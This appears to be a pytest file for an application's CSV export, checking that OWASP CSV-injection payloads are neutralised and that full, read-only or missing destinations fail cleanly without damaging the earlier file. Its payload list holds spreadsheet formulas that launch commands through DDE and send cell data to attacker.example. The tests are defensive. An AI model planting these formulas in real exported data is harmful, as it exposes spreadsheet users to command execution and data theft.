"""Family 3: export integrity, beyond tests/core/test_export.py (which this family also counts):
OWASP payloads through the whole pipeline, a real full file system, destinations that cannot
be written (core, CLI and window), and the previous file always left as it was."""

from __future__ import annotations

import csv
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from PySide6.QtWidgets import QMessageBox
from pytestqt.qtbot import QtBot

from asylum_browser.cli import EXIT_EXPORT, cli
from asylum_browser.core.engine.database import Database
from asylum_browser.core.engine.repository import Repository
from asylum_browser.core.export.writer import ExportError, sidecar_path, write_csv
from asylum_browser.core.model.schema import COLUMNS_BY_NAME
from asylum_browser.core.query.parser import parse_query
from asylum_browser.gui.widgets.export_dialog import ExportChoices
from tests.conftest import count_bundled
from tests.gui.conftest import open_window
from tests.reliability.bad_files import can_mount, mounted_tmpfs

pytestmark = pytest.mark.reliability("export-integrity")

# OWASP "CSV Injection" payloads (owasp.org/www-community/attacks/CSV_Injection), and the
# variants with the other leading characters spreadsheets treat as formulas.
OWASP = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1", "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "+1", "-1", "@x",
    "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", A1), \"//a\")",
]
TEXT_COLUMNS = ["id", "title", "summary", "people_note", "host_response", "outcome"]


def test_every_owasp_payload_is_neutralised_through_the_whole_export(
        db_copy: Path, tmp_path: Path) -> None:
    with sqlite3.connect(db_copy) as connection:
        seqs = [row[0] for row in connection.execute("SELECT seq FROM incidents")]
        for seq in seqs:  # every row
            payload = OWASP[seq % len(OWASP)]
            connection.execute("UPDATE incidents SET title = ?, summary = ?, people_note = ?, "
                               "host_response = ?, outcome = ? WHERE seq = ?",
                               (payload, payload + " and more", "x" + payload, payload,
                                payload, seq))
    connection.close()
    target = tmp_path / "owasp.csv"
    columns = [*TEXT_COLUMNS, "longitude", "people_count"]
    write_csv(Repository(Database(db_copy)), parse_query(""), target, columns)
    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(seqs) == count_bundled()
    for row in rows:
        for column in TEXT_COLUMNS[1:]:
            cell = row[column]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            if cell.lstrip("'") != cell:
                assert cell[1:] in {*OWASP, *(p + " and more" for p in OWASP)}
        assert row["people_note"].startswith("x")  # text that is safe is left alone
    # Numbers are not text: a negative longitude stays a number a spreadsheet can sum.
    assert any(row["longitude"].startswith("-") for row in rows)


@pytest.fixture
def full_disk(tmp_path: Path) -> Iterator[Path]:
    """A real 64 KiB file system, filled up but for a few kilobytes."""
    if not can_mount():
        pytest.skip("needs root to mount a small tmpfs")
    with mounted_tmpfs(tmp_path / "small-disk", "size=64k") as mount_point:
        (mount_point / "keep.csv").write_text("the previous export\r\n", encoding="utf-8")
        sidecar_path(mount_point / "keep.csv").write_text("previous about\n", encoding="utf-8")
        (mount_point / "filler").write_bytes(b"\0" * (48 * 1024))  # about 8 KiB stay free
        yield mount_point


def test_a_full_disk_leaves_no_partial_file_and_the_previous_one_intact(
        repository: Repository, full_disk: Path) -> None:
    target = full_disk / "keep.csv"
    before = sorted(path.name for path in full_disk.iterdir())
    with pytest.raises(ExportError, match="the disk is full"):
        write_csv(repository, parse_query(""), target, list(COLUMNS_BY_NAME))
    assert target.read_bytes() == b"the previous export\r\n"
    assert sidecar_path(target).read_text(encoding="utf-8") == "previous about\n"
    assert sorted(path.name for path in full_disk.iterdir()) == before  # no temp file left


def test_the_window_reports_a_full_disk_and_keeps_working(
        qtbot: QtBot, tmp_path: Path, full_disk: Path) -> None:
    window = open_window(qtbot, tmp_path / "settings.json")
    choices = ExportChoices(full_disk / "keep.csv", False, tuple(COLUMNS_BY_NAME), False, True,
                            True)
    with qtbot.waitSignal(window.export_done, timeout=20000):
        window.start_export(choices)
    boxes = [b for b in window.findChildren(QMessageBox, "problemMessage") if b.isVisible()]
    assert len(boxes) == 1 and "the disk is full" in boxes[0].text()
    assert "earlier file at that path is unchanged" in boxes[0].informativeText()
    assert (full_disk / "keep.csv").read_bytes() == b"the previous export\r\n"
    boxes[0].close()


@pytest.fixture
def read_only_folder(tmp_path: Path) -> Iterator[Path]:
    if not can_mount():
        pytest.skip("needs root to mount a read-only tmpfs")
    with mounted_tmpfs(tmp_path / "read-only", "size=1m,ro") as mount_point:
        yield mount_point


@pytest.mark.parametrize("where", ["a missing folder", "a folder as the file name",
                                   "a read-only disk"])
def test_a_destination_that_cannot_be_written_gets_a_clear_message(
        repository: Repository, tmp_path: Path, where: str,
        request: pytest.FixtureRequest) -> None:
    if where == "a missing folder":
        target, words = tmp_path / "no such folder" / "out.csv", "its folder does not exist"
    elif where == "a folder as the file name":
        target, words = tmp_path, "is a folder; choose a file name inside it"
    else:
        target = request.getfixturevalue("read_only_folder") / "out.csv"
        words = "the disk is read-only"
    with pytest.raises(ExportError) as caught:
        write_csv(repository, parse_query("shenyang"), target)
    assert words in str(caught.value) and "\n" not in str(caught.value)
    result = CliRunner().invoke(cli, ["export", "shenyang", "-o", str(target)])
    assert result.exit_code == EXIT_EXPORT
    assert result.stderr.count("\n") == 1 and words in result.stderr
    assert "Traceback" not in result.output
